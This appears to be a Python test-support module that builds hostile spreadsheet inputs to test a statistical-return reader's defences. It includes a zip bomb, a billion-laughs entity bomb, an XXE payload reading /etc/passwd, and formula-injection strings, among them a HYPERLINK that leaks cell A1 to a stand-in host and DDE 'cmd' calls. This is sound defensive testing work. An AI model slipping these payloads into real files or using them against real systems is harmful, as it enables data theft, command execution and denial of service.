"""Builders of hostile and broken input files, for the safety, robustness and fuzz tests.

Every builder returns bytes (or writes a file) made here, byte by byte where needed, so the
tests need no sample files and no extra dependency.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from nianbao.form.data import Return
    from nianbao.form.model import Form

# --- zip containers ---------------------------------------------------------------------------


def rezip(
    source: bytes,
    replace: dict[str, bytes | None] | None = None,
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A copy of the zip ``source`` with parts replaced (None: removed) and parts added."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w", compression) as new:
        for info in old.infolist():
            if info.filename in replace:
                data = replace[info.filename]
                if data is not None:
                    new.writestr(info.filename, data)
            else:
                new.writestr(info.filename, old.read(info.filename))
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def zip_of(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def set_declared_size(source: bytes, name: str, size: int) -> bytes:
    """Rewrite the uncompressed size that the zip declares for ``name`` (local and central header).

    Used to build lying archives: a small declared size on a part that inflates to far more.
    """
    return _rewrite_declared(source, name, central=24, local=22, value=size)


def set_declared_crc(source: bytes, name: str, crc: int) -> bytes:
    """Rewrite the CRC-32 that the zip declares for ``name`` (local and central header): the
    archive of a damaged download, whose bytes no longer match their checksum."""
    return _rewrite_declared(source, name, central=16, local=14, value=crc)


def _rewrite_declared(source: bytes, name: str, *, central: int, local: int, value: int) -> bytes:
    data = bytearray(source)
    encoded = name.encode("utf-8")
    # central directory records: signature PK\1\2, name length at +28, local header at +42
    position = data.find(b"PK\x01\x02")
    while position != -1:
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, position + 28)
        if bytes(data[position + 46 : position + 46 + name_len]) == encoded:
            struct.pack_into("<I", data, position + central, value)
            (header,) = struct.unpack_from("<I", data, position + 42)
            struct.pack_into("<I", data, header + local, value)
        position = data.find(b"PK\x01\x02", position + 46 + name_len + extra_len + comment_len)
    return bytes(data)


def deflated_zeros_zip(name: str, size: int, other_parts: dict[str, bytes] | None = None) -> bytes:
    """A zip whose part ``name`` inflates to ``size`` zero bytes (streamed: memory stays small)."""
    out = io.BytesIO()
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in (other_parts or {}).items():
            archive.writestr(part, data)
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=size > 0x7FFFFFFF) as stream:
            left = size
            while left > 0:
                stream.write(chunk[: min(left, len(chunk))])
                left -= len(chunk)
    return out.getvalue()


def raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip built by hand from (name, deflated bytes, crc32, uncompressed size) entries."""
    body = bytearray()
    directory = bytearray()
    for name, deflated, crc, size in entries:
        encoded = name.encode("utf-8")
        offset = len(body)
        fields = (20, 0x800, 8, 0, 0x21, crc, len(deflated), size, len(encoded), 0)
        body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields) + encoded + deflated
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, offset
        )
        directory += encoded
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0
    )
    return bytes(body + directory + end)


def zeros_bomb(name: str, gigabytes: int = 1) -> bytes:
    """A zip whose part ``name`` inflates to ``gigabytes`` GB of zeros from about 1 MB: built
    from one deflated megabyte repeated (a full flush makes each segment self-contained)."""
    zeros = bytes(1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    segment = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    deflated = segment * (1024 * gigabytes) + compressor.flush()
    crc = 0
    for _ in range(1024 * gigabytes):
        crc = zlib.crc32(zeros, crc)
    workbook = b"<workbook/>"
    return raw_zip(
        [
            ("xl/workbook.xml", _deflate(workbook), zlib.crc32(workbook), len(workbook)),
            (name, deflated, crc, 1024**3 * gigabytes),
        ]
    )


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def billion_laughs(root: str = "sst", levels: int = 10) -> bytes:
    """The classic entity-expansion document (~10**levels copies of "lol") with ``root`` element."""
    lines = ['<?xml version="1.0" encoding="UTF-8"?>', f"<!DOCTYPE {root} ["]
    lines.append(' <!ENTITY lol0 "lol">')
    for level in range(1, levels):
        refs = f"&lol{level - 1};" * 10
        lines.append(f' <!ENTITY lol{level} "{refs}">')
    lines.append("]>")
    body = f"&lol{levels - 1};"
    if root == "sst":
        ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        lines.append(f'<sst xmlns="{ns}" count="1" uniqueCount="1"><si><t>{body}</t></si></sst>')
    else:
        lines.append(f"<{root}>{body}</{root}>")
    return "\n".join(lines).encode("utf-8")


def external_entity(root: str = "sst", target: str = "file:///etc/passwd") -> bytes:
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE {root} [ <!ENTITY xxe SYSTEM "{target}"> ]>\n'
        f'<sst xmlns="{ns}" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    ).encode()


def docx_bytes(text: str = "") -> bytes:
    """A minimal Word file; ``text`` becomes its one paragraph (none when empty)."""
    body = f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>" if text else ""
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "word/document.xml": (
                '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                f"{body}</w:document>"
            ).encode(),
        }
    )


def pptx_bytes() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
        }
    )


def encrypted_ods_bytes() -> bytes:
    """An ODS package whose manifest declares encrypted content (what a password does in ODF)."""
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        b'<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/>'
        b"</manifest:file-entry></manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            "mimetype", b"application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED
        )
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        archive.writestr(
            "content.xml", zlib.compress(b"encrypted-looking bytes"), zipfile.ZIP_STORED
        )
    return out.getvalue()


# --- OLE compound files (the container of .xls and of password-protected .xlsx) ---------------

_FREESECT, _ENDOFCHAIN, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal, well-formed compound file (v3, 512-byte sectors) holding ``streams``.

    Streams are padded to 4096 bytes, and declared so, as Excel does, so none lives in the
    mini stream; at most 3 streams
    (one directory sector) and ~60 KB in all (one FAT sector), which is all the tests need.
    """
    assert len(streams) <= 3
    payloads = [data.ljust(4096, b"\0") for data in streams.values()]
    fat = [_FATSECT, _ENDOFCHAIN]  # sector 0: the FAT, sector 1: the directory
    starts = []
    for payload in payloads:
        count = -(-len(payload) // _SECTOR)
        first = len(fat)
        starts.append(first)
        fat += [first + i + 1 for i in range(count - 1)] + [_ENDOFCHAIN]
    assert len(fat) <= _SECTOR // 4
    fat += [_FREESECT] * (_SECTOR // 4 - len(fat))

    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, _ENDOFCHAIN, 0, _ENDOFCHAIN, 0)
    struct.pack_into("<109I", header, 76, 0, *([_FREESECT] * 108))

    directory = _dir_entry(
        "Root Entry", 5, child=1 if streams else _NOSTREAM, start=_ENDOFCHAIN, size=0
    )
    names = list(streams)
    for index, name in enumerate(names):
        right = index + 2 if index + 1 < len(names) else _NOSTREAM
        directory += _dir_entry(
            name, 2, right=right, start=starts[index], size=len(payloads[index])
        )
    directory = directory.ljust(_SECTOR, b"\0")
    body = struct.pack(f"<{_SECTOR // 4}I", *fat) + directory
    for payload in payloads:
        body += payload.ljust(-(-len(payload) // _SECTOR) * _SECTOR, b"\0")
    return bytes(header) + body


def _dir_entry(
    name: str, kind: int, *, right: int = _NOSTREAM, child: int = _NOSTREAM, start: int, size: int
) -> bytes:
    entry = bytearray(128)
    encoded = name.encode("utf-16-le") + b"\0\0"
    entry[0 : len(encoded)] = encoded
    struct.pack_into("<HBBIII", entry, 64, len(encoded), kind, 1, _NOSTREAM, right, child)
    struct.pack_into("<II", entry, 116, start, size)
    return bytes(entry)


def encrypted_ooxml_bytes() -> bytes:
    """What Excel writes for a workbook with a password to open: an OLE file with these streams."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"
    return ole_file(
        {"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 1000) + b"\x5a" * 1000}
    )


def biff_workbook_stream(password: bool = False) -> bytes:
    """The start of a BIFF8 workbook globals substream: BOF, optionally FILEPASS, then EOF."""
    bof = struct.pack("<HH", 0x0809, 16) + struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0)
    records = bof
    if password:
        records += struct.pack("<HH", 0x002F, 6) + struct.pack("<HHH", 1, 1, 1)
    records += struct.pack("<HH", 0x000A, 0)
    return records


def xls_like_bytes(password: bool = False) -> bytes:
    return ole_file({"Workbook": biff_workbook_stream(password)})


def word97_bytes() -> bytes:
    return ole_file({"WordDocument": b"\xec\xa5" + b"\0" * 100})


# --- files that are not workbooks at all ------------------------------------------------------

CSV_TEXT = "单位名称,本年新收\n水泥路街道,0\n".encode("gbk")
PLAIN_TEXT = "这是一份说明文字，不是统计表。\n".encode()
HTML_TABLE = (
    b'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
    b"<body><table><tr><td>1</td></tr></table></body></html>"
)
XML_SPREADSHEET_2003 = (
    b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
    b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>'
)
PDF_HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
PNG_HEAD = b"\x89PNG\r\n\x1a\n" + b"\0" * 64


def write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def far_cell_xlsx(
    valid: bytes,
    sheet_part: str = "xl/worksheets/sheet1.xml",
    separator: str = " ",
    reference: str = "XFD1048576",
    row: str = "1048576",
) -> bytes:
    """``valid`` with one more cell at XFD1048576 on ``sheet_part``: a 2-cell sheet whose used
    range is the whole grid (17 billion cells for a reader that builds a dense range).
    ``reference`` and ``row`` may spell the place otherwise (leading zeros, no reference)."""
    with zipfile.ZipFile(io.BytesIO(valid)) as archive:
        xml = archive.read(sheet_part).decode("utf-8")
    address = f'{separator}r="{reference}"' if reference else ""
    far = f'<row r="{row}"><c{address}><v>1</v></c></row>'
    xml = xml.replace("</sheetData>", far + "</sheetData>", 1)
    return rezip(valid, replace={sheet_part: xml.encode("utf-8")})


def ods_repeat_bomb(rows: int = 1_048_575, cols: int = 1024, filled: bool = True) -> bytes:
    """An ODS whose content.xml (under 1 KB) repeats one cell rows x cols times (non-empty
    unless not ``filled``: LibreOffice itself writes trailing blank areas that way)."""
    cell = (
        ' office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
        if filled
        else "/>"
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="表三">'
        f'<table:table-row table:number-rows-repeated="{rows}">'
        f'<table:table-cell table:number-columns-repeated="{cols}"{cell}</table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", ODS_MIMETYPE, zipfile.ZIP_STORED)
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return out.getvalue()


ODS_MIMETYPE = b"application/vnd.oasis.opendocument.spreadsheet"


# --- workbook surgery: what users do to a returned template -----------------------------------

_SHEET_ELEMENT = re.compile(r"<sheet\b[^>]*/>")


def _sheet_elements(workbook_xml: str) -> list[str]:
    return _SHEET_ELEMENT.findall(workbook_xml)


def _sheet_named(workbook_xml: str, name: str) -> str:
    escaped = name.replace("&", "&amp;")
    for element in _sheet_elements(workbook_xml):
        if f'name="{escaped}"' in element:
            return element
    raise KeyError(name)


def edit_workbook_xml(source: bytes, edit: Callable[[str], str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        xml = archive.read("xl/workbook.xml").decode("utf-8")
    return rezip(source, replace={"xl/workbook.xml": edit(xml).encode("utf-8")})


def rename_sheet(source: bytes, old: str, new: str) -> bytes:
    def edit(xml: str) -> str:
        element = _sheet_named(xml, old)
        return xml.replace(element, element.replace(f'name="{old}"', f'name="{new}"'))

    return edit_workbook_xml(source, edit)


def delete_sheet(source: bytes, name: str) -> bytes:
    """Drop the sheet from the workbook (its part stays behind, unreferenced, as after a bad edit)."""
    return edit_workbook_xml(source, lambda xml: xml.replace(_sheet_named(xml, name), ""))


def hide_sheet(source: bytes, name: str) -> bytes:
    def edit(xml: str) -> str:
        element = _sheet_named(xml, name)
        return xml.replace(element, element.replace("<sheet ", '<sheet state="hidden" ', 1))

    return edit_workbook_xml(source, edit)


def reverse_sheets(source: bytes) -> bytes:
    def edit(xml: str) -> str:
        elements = _sheet_elements(xml)
        block = "".join(elements)
        assert block in xml, "sheet elements are expected side by side"
        return xml.replace(block, "".join(reversed(elements)))

    return edit_workbook_xml(source, edit)


def insert_rows(source: Path, target: Path, sheet: str, before: int, count: int = 1) -> Path:
    """Insert blank rows above row ``before`` (1-based) of ``sheet``, keeping the values shown.

    Saved by openpyxl with data_only=True, so totals become the values they showed: what a
    user's spreadsheet holds after inserting a row and saving (merged ranges are shifted too).
    """
    import openpyxl

    workbook = openpyxl.load_workbook(source, data_only=True)
    ws = workbook[sheet]
    merged = [str(r) for r in ws.merged_cells.ranges]
    for ref in merged:
        ws.unmerge_cells(ref)
    ws.insert_rows(before, count)
    from openpyxl.worksheet.cell_range import CellRange

    for ref in merged:
        shifted = CellRange(ref)
        if shifted.min_row >= before:
            shifted.shift(row_shift=count)
        ws.merge_cells(shifted.coord)
    workbook.save(target)
    return target


def add_long_sheet(source: bytes, rows: int, name: str = "附表") -> bytes:
    """``source`` with one more sheet holding ``rows`` rows of numbers in column A (streamed)."""
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        workbook = archive.read("xl/workbook.xml").decode("utf-8")
        rels = archive.read("xl/_rels/workbook.xml.rels").decode("utf-8")
        types = archive.read("[Content_Types].xml").decode("utf-8")
    part = "worksheets/sheet_long.xml"
    rid = "rIdLong"
    ids = [int(i) for i in re.findall(r'sheetId="(\d+)"', workbook)]
    workbook = workbook.replace(
        "</sheets>", f'<sheet name="{name}" sheetId="{max(ids) + 1}" r:id="{rid}"/></sheets>'
    )
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/worksheet" Target="{part}"/></Relationships>',
    )
    types = types.replace(
        "</Types>",
        f'<Override PartName="/xl/{part}" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/></Types>',
    )
    out = io.BytesIO()
    replaced = {
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": rels,
        "[Content_Types].xml": types,
    }
    with (
        zipfile.ZipFile(io.BytesIO(source)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            data = replaced.get(info.filename)
            new.writestr(info.filename, data.encode("utf-8") if data else old.read(info.filename))
        with new.open(f"xl/{part}", "w") as stream:
            ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
            stream.write(
                f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{ns}">'.encode()
            )
            stream.write(f'<dimension ref="A1:A{rows}"/><sheetData>'.encode())
            batch = 20_000
            for first in range(1, rows + 1, batch):
                stream.write(
                    "".join(
                        f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>'
                        for r in range(first, min(rows, first + batch - 1) + 1)
                    ).encode()
                )
            stream.write(b"</sheetData></worksheet>")
    return out.getvalue()


# --- the corpus: one folder of everything a coordinator receives ------------------------------

# Unit names that a spreadsheet would run as formulas or commands if written naively.
INJECTED_UNITS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"点我查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
)


@dataclass(frozen=True)
class Case:
    """One corpus file and what reading it must give.

    ``rule``: the rule id of the finding that stops it ("F01"…"L01"), or None when the file
    must be read with the same values as ``source``; ``says``: text the message must contain;
    ``note``: a reading note (rule id) the return must carry when read.
    """

    name: str
    rule: str | None = None
    says: str = ""
    note: str | None = None
    unit: str | None = None  # the unit name the read return must carry


def build_corpus(
    folder: Path,
    form: Form,
    *,
    long_rows: int = 1_000_000,
    libreoffice: bool = False,
) -> tuple[Return, list[Case]]:
    """Write every bad (and oddly saved) file into ``folder``; returns the source return and cases.

    ``libreoffice``: also write .xls and .ods copies of the valid return (LibreOffice converts).
    """
    from nianbao.form.layout import layout_for
    from nianbao.xlsx.writer import write_return
    from tests.support.returns import valid_return

    folder.mkdir(parents=True, exist_ok=True)
    source = valid_return(form, seed=11, unit="水泥路街道", parent="道外区")
    staging = folder.parent / f"{folder.name}-staging"
    staging.mkdir(exist_ok=True)
    valid_path = staging / "valid.xlsx"
    write_return(valid_path, form, source)
    valid = valid_path.read_bytes()
    sheets = [sheet.name for sheet in layout_for(form).sheets]
    second, third = sheets[1], sheets[2]
    cases: list[Case] = []

    def add(name: str, data: bytes, case: Case) -> None:
        write(folder / name, data)
        cases.append(case)

    add("合格.xlsx", valid, Case("合格.xlsx"))
    add("空文件.xlsx", b"", Case("空文件.xlsx", "F01", "是空的（0 字节）"))
    add("不是压缩包.xlsx", PLAIN_TEXT, Case("不是压缩包.xlsx", "F02", "另存为 .xlsx"))
    add("截断.xlsx", valid[: len(valid) // 2], Case("截断.xlsx", "F01", "可能未下载完整"))
    add("名册.csv", CSV_TEXT, Case("名册.csv", "F02", "CSV 文本文件"))
    add("网页.xls", HTML_TABLE, Case("网页.xls", "F02", "网页（HTML）"))
    add("加密.xlsx", encrypted_ooxml_bytes(), Case("加密.xlsx", "F03", "设有打开密码"))
    add("加密.xls", xls_like_bytes(password=True), Case("加密.xls", "F03", "设有打开密码"))
    add("Word.xlsx", docx_bytes(), Case("Word.xlsx", "F02", "Word 文档"))
    # a macro-enabled copy: the same package plus a VBA project part
    add("宏.xlsm", rezip(valid, add={"xl/vbaProject.bin": OLE_STUB}), Case("宏.xlsm"))
    add("改名.xlsx", rename_sheet(valid, second, "Sheet3"), Case("改名.xlsx", note="L02"))
    add("删表.xlsx", delete_sheet(valid, third), Case("删表.xlsx", "L01", "未找到"))
    add("隐藏.xlsx", hide_sheet(valid, second), Case("隐藏.xlsx"))
    add("倒序.xlsx", reverse_sheets(valid), Case("倒序.xlsx"))
    insert_rows(valid_path, folder / "插行.xlsx", second, before=8, count=2)
    cases.append(Case("插行.xlsx", note="L02"))
    add("百万行.xlsx", add_long_sheet(valid, long_rows), Case("百万行.xlsx"))
    bomb = zeros_bomb("xl/worksheets/sheet1.xml", gigabytes=1)
    add("压缩炸弹.xlsx", bomb, Case("压缩炸弹.xlsx", "F04", "压缩炸弹"))
    laughs = rezip(valid, replace={"xl/sharedStrings.xml": billion_laughs()})
    add("实体膨胀.xlsx", laughs, Case("实体膨胀.xlsx", "F04", "实体"))
    xxe = rezip(valid, replace={"xl/sharedStrings.xml": external_entity()})
    add("外部实体.xlsx", xxe, Case("外部实体.xlsx", "F04", "实体"))
    add("远处单元格.xlsx", far_cell_xlsx(valid), Case("远处单元格.xlsx", "F04", "异常庞大"))
    # the same corner spelt with leading zeros: calamine reads every digit (it aborted the process)
    zeros = far_cell_xlsx(valid, reference="XFD0000001048576", row="0000001048576")
    add("前导零.xlsx", zeros, Case("前导零.xlsx", "F04", "异常庞大"))
    for index, unit in enumerate(INJECTED_UNITS, start=1):
        name = f"注入{index}.xlsx"
        injected = valid_return(form, seed=20 + index, unit=unit, parent="道外区")
        write_return(folder / name, form, injected)
        cases.append(Case(name, unit=unit))
    if libreoffice:
        from tests.support.soffice import convert

        for fmt in ("xls", "ods"):
            converted = convert(valid_path, fmt, staging / fmt)
            write(folder / f"另存为.{fmt}", converted.read_bytes())
            cases.append(Case(f"另存为.{fmt}"))
    return source, cases


OLE_STUB = ole_file({"VBA": b'Attribute VB_Name = "ThisWorkbook"'})
